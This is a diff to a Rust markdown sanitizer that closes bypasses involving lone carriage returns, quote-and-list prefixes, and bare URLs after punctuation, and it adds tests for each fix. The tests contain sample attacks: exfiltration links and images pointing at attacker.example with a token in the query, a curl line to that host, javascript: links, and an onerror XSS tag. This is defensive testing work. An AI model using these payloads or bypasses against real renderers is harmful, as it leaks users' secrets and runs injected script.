@@ -6,6 +6,9 @@
 //! are *not* enabled, so their content is checked like any other text. The output is
 //! the input with some source byte ranges (reported by the parser's offset iterator)
 //! replaced; everything else stays byte-identical, code spans and code blocks included.
+//! Text with a CR that no LF follows is sanitized, and handed on, with LF there
+//! ([`super::markup::sanitize_markup`]): `CommonMark` renderers end a line at a lone CR,
+//! `pulldown-cmark` keeps it as text inside code blocks.
 //!
 //! | construct | when | becomes | finding |
 //! |---|---|---|---|
@@ -14,7 +17,7 @@
 //! | link, autolink | scheme other than `http`, `https`, `mailto` | its text | `dangerous_url_scheme` |
 //! | link, autolink | data in query/fragment, host not trusted | ``TEXT (link removed: `URL`)`` | `link_exfiltration` |
 //! | link, inline HTML `<a href>`…`</a>` | text shows another site than the target ([`markup::mismatched_hosts`]) | ``TEXT (link target: `URL`)`` | `link_text_mismatch` |
-//! | bare `http(s)://` or `www.` URL in text (GFM autolinks it) | data in query/fragment, host not trusted | ``` `URL` (link removed)``` | `link_exfiltration` |
+//! | bare `http(s)://` (after anything but an ASCII letter) or `www.` URL in text (GFM autolinks it) | data in query/fragment, host not trusted | ``` `URL` (link removed)``` | `link_exfiltration` |
 //! | `<img`/`<image` tag in text (not raw HTML for `CommonMark`, e.g. an unquoted value with `=`) | `src` external or not `http(s)` | `[image (HOST)]` | `external_image`, … |
 //! | HTML comment, declaration, processing instruction | not blank | `[hidden comment: TEXT]` | `hidden_comment` |
 //! | raw HTML block or inline tag | anything the allowlist removes | cleaned HTML, image markers | `html_sanitized`, … |
@@ -504,9 +507,12 @@ impl TextRun {
         (edits, plain)
     }
 
-    /// Bare `http://`, `https://` and `www.` URLs (GFM extended autolinks: at the start of
-    /// the text, after whitespace or after `*`, `_`, `~`, `(`) that carry data to an
-    /// untrusted host become `` `URL` (link removed)``. The candidate runs up to
+    /// Bare `http://`, `https://` and `www.` URLs (GFM extended autolinks) that carry data
+    /// to an untrusted host become `` `URL` (link removed)``. A `www.` link starts at the
+    /// start of the text, after whitespace or after `*`, `_`, `~`, `(` (the GFM spec); an
+    /// `http(s)://` link after anything but an ASCII letter, because that is what
+    /// cmark-gfm, the renderer GitHub runs, links (after `"`, `-`, `.`, `<`, `` ` ``, `]`
+    /// too). The candidate runs up to
     /// whitespace or `<` with trailing punctuation and unbalanced `)` left out, as GFM
     /// does; the URL parser decides the rest.
     fn bare_urls(
@@ -526,10 +532,13 @@ impl TextRun {
             let www = rest.starts_with("www.");
             if start < skip
                 || !(www || rest.starts_with("http://") || rest.starts_with("https://"))
-                || decoded[..start]
-                    .chars()
-                    .next_back()
-                    .is_some_and(|c| !c.is_whitespace() && !matches!(c, '*' | '_' | '~' | '('))
+                || decoded[..start].chars().next_back().is_some_and(|c| {
+                    if www {
+                        !c.is_whitespace() && !matches!(c, '*' | '_' | '~' | '(')
+                    } else {
+                        c.is_ascii_alphabetic()
+                    }
+                })
             {
                 continue;
             }
@@ -788,10 +797,7 @@ fn titled_definition(
         }
         dest.push(c);
     }
-    let prefix: String = text[line_start(text, span.start)..span.start]
-        .chars()
-        .map(|c| if c == '>' || c == '\t' { c } else { ' ' })
-        .collect();
+    let prefix = blank_prefix(&text[line_start(text, span.start)..span.start]);
     findings.push(
         Code::HiddenComment,
         "an unused link reference definition hid text in its title; it is now shown as [hidden comment: …]"
@@ -987,16 +993,63 @@ fn continuation_prefix(block: &HtmlBlock, text: &str) -> String {
         return text[line_start(text, second)..second].to_owned();
     }
     let first = block.lines.first().copied().unwrap_or(block.range.start);
-    text[line_start(text, first)..first]
-        .chars()
-        .map(|c| if c == '>' || c == '\t' { c } else { ' ' })
-        .collect()
+    blank_prefix(&text[line_start(text, first)..first])
+}
+
+/// The prefix of a first line (`>` markers, list markers, indentation) for the lines after
+/// it: every `>` becomes `> `, and everything else blank columns of the width it had, so
+/// the content keeps its column inside each container. Widths count tabs to the next
+/// multiple of 4 and the optional space (or tab column) after a `>` (`CommonMark` §2.2,
+/// §5.1). Keeping a `>` as it was would let the optional space take one of the new blank
+/// columns, and `>- x` would continue as `>  x`, one column short of the list item's
+/// content: out of the item, and a new line on every pass.
+fn blank_prefix(prefix: &str) -> String {
+    let mut out = String::with_capacity(prefix.len() + 4);
+    let mut col = 0usize;
+    let mut blank = 0usize;
+    let next_stop = |col: usize| (col / 4 + 1) * 4;
+    let mut chars = prefix.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '>' => {
+                out.extend(std::iter::repeat_n(' ', blank));
+                blank = 0;
+                out.push_str("> ");
+                col += 1;
+                match chars.peek() {
+                    Some(' ') => {
+                        chars.next();
+                        col += 1;
+                    }
+                    Some('\t') => {
+                        chars.next();
+                        let stop = next_stop(col);
+                        blank += stop - col - 1;
+                        col = stop;
+                    }
+                    _ => {}
+                }
+            }
+            '\t' => {
+                let stop = next_stop(col);
+                blank += stop - col;
+                col = stop;
+            }
+            _ => {
+                col += 1;
+                blank += 1;
+            }
+        }
+    }
+    out.extend(std::iter::repeat_n(' ', blank));
+    out
 }
 
 #[cfg(test)]
 mod tests {
     use super::super::markup::{ContentPolicy, sanitize_markup};
     use crate::finding::Code;
+    use pulldown_cmark::{Event, Tag};
 
     fn policy() -> ContentPolicy {
         ContentPolicy {
@@ -1052,10 +1105,10 @@ mod tests {
             "See https://example.com/articles?page=2&sort=asc and www.example.com/x?page=3.",
             "Callback: https://trusted.example/cb?token=abcdef and `https://attacker.example/?token=abc`",
             "```\ncurl https://attacker.example/?token=abc\n```\n",
-            "x`https://attacker.example/?token=abc` and \\<https://attacker.example/?token=abc\\>",
+            "x`https://attacker.example/?token=abc` and xhttps://attacker.example/?token=abc",
             // Text that only looks like an image tag.
             "Use `<IMG SRC=https://attacker.example/x.png?d=abc>` in code, and <img in prose, and <img src=diagram.png?v=2>",
-            "\\<img src=https://attacker.example/x.png?d=abc\\>",
+            "\\<img src=diagram.png?v=2\\>",
         ];
         for text in cases {
             let (out, codes, borrowed) = run(text);
@@ -1379,6 +1432,113 @@ mod tests {
             );
             let twice = sanitize_markup(&once.text, None, &policy(), "/t");
             assert_eq!(twice.text, once.text, "{text:?}");
+        }
+    }
+
+    /// Links and images of a text's markdown as a `CommonMark` renderer reads it (with
+    /// LF line ends, which is how the sanitizer hands such text on), and its inline HTML.
+    fn active_parts(text: &str) -> Vec<String> {
+        let lf = text.replace("\r\n", "\n").replace('\r', "\n");
+        pulldown_cmark::Parser::new_ext(&lf, super::options())
+            .filter_map(|e| match e {
+                Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
+                    Some(dest_url.to_string())
+                }
+                Event::InlineHtml(h) | Event::Html(h) if h.contains("onerror") => {
+                    Some(h.to_string())
+                }
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// A lone CR after a code block line ended the block for `CommonMark` renderers but
+    /// not for the parser the sanitizer used: the image, link or tag after it went
+    /// unchecked (found by a hostile review). Text with a lone CR is now checked and
+    /// handed on with LF.
+    #[test]
+    fn a_lone_cr_ends_a_code_block_line_for_the_sanitizer_too() {
+        let cases = [
+            "    x\r![i](http://attacker.example/i.png?token=c2VjcmV0LXRva2Vu)\n",
+            "    x\r[x](javascript:alert(1))\n",
+            "    x\r<img src=x onerror=alert(1)>\n",
+            "```\nx\r```\r![i](http://attacker.example/i.png?token=c2VjcmV0LXRva2Vu)\n",
+            "    x\n\r![i](http://attacker.example/i.png?token=c2VjcmV0LXRva2Vu)\n",
+        ];
+        for text in cases {
+            assert!(
+                !active_parts(text).is_empty(),
+                "case shows nothing: {text:?}"
+            );
+            let once = sanitize_markup(text, None, &policy(), "/t");
+            let parts = active_parts(&once.text);
+            assert!(
+                parts.iter().all(|p| !p.contains("attacker")
+                    && !p.contains("javascript")
+                    && !p.contains("onerror")),
+                "{text:?} -> {:?}: {parts:?}",
+                once.text
+            );
+            assert!(!once.findings.is_empty(), "{text:?}");
+            assert!(!once.text.contains('\r'), "{:?}", once.text);
+            let twice = sanitize_markup(&once.text, None, &policy(), "/t");
+            assert_eq!(twice.text, once.text, "{text:?}");
+        }
+        // CR LF is one line end for every parser: such text is left as it is.
+        let crlf = "See [docs](https://docs.example.com/a)\r\nmore\r\n";
+        let (out, codes, borrowed) = run(crlf);
+        assert!(borrowed && codes.is_empty(), "{out:?} {codes:?}");
+    }
+
+    /// `>` right before a list marker (`>- x`): the replacement lines keep the item's
+    /// content column, so an HTML block there settles in one pass (found by a hostile
+    /// review; before, each pass added a line until the escaped fallback).
+    #[test]
+    fn a_quote_marker_right_before_a_list_marker_keeps_the_item_column() {
+        for text in [
+            ">- <div>\n",
+            ">-\t<u>\n",
+            ">1. <div>\n",
+            ">+ <div>\r",
+            ">> <div>\n",
+        ] {
+            let once = sanitize_markup(text, None, &policy(), "/t");
+            assert!(
+                once.findings
+                    .iter()
+                    .all(|f| !f.message.contains("kept changing")),
+                "{text:?} did not settle: {:?}",
+                once.text
+            );
+            let twice = sanitize_markup(&once.text, None, &policy(), "/t");
+            assert_eq!(twice.text, once.text, "{text:?}");
+        }
+    }
+
+    /// cmark-gfm (GitHub's renderer) autolinks `http(s)://` after any character but an
+    /// ASCII letter, not only after the spaces and `*_~(` the GFM spec lists (found by a
+    /// hostile review with cmark-gfm). `www.` keeps the spec's rule.
+    #[test]
+    fn bare_urls_after_punctuation_are_made_inert() {
+        let url = "http://attacker.example/c?token=c2VjcmV0LXRva2Vu";
+        for before in ["\"", "-", ".", "<", "`", "[x][]", "1", "=", "é", ":"] {
+            let text = format!("{before}{url} end");
+            let (out, codes, _) = run(&text);
+            assert!(
+                out.contains("(link removed)") && codes.contains(&Code::LinkExfiltration),
+                "{text:?} -> {out:?}"
+            );
+        }
+        // Look-alikes: a letter before the scheme, and `www.` glued to text, stay.
+        for text in [
+            format!("x{url} end"),
+            "see-www.attacker.example/c?token=c2VjcmV0LXRva2Vu end".to_owned(),
+        ] {
+            let (out, codes, borrowed) = run(&text);
+            assert!(
+                borrowed && codes.is_empty(),
+                "{text:?} -> {out:?} {codes:?}"
+            );
         }
     }
 
